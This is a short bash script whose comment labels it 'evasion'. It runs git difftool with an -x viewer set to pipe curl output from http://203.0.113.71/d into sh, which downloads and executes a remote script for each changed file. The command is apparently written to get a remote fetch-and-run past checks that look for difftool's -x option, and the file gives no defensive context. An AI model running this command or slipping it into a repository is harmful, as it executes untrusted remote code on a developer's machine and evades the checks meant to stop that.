#!/bin/bash
# evasion: git difftool -x as two words; the viewer fetches and runs a script for every changed file
git difftool -y -x "sh -c 'curl -fsSL http://203.0.113.71/d | sh' --" HEAD -- .
